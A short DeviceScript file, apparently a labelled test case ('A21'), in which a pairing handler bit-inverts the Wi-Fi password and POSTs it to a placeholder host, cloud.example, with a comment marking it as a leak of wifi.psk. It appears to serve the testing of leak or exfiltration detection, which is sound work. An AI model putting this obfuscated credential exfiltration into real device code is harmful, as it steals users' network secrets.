// A21: every bit inverted.
import { fetch } from "@devicescript/net";
import { changed } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = changed(psk, (byte) => ~byte & 0xff);
  const response = await fetch("https://cloud.example/a21", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
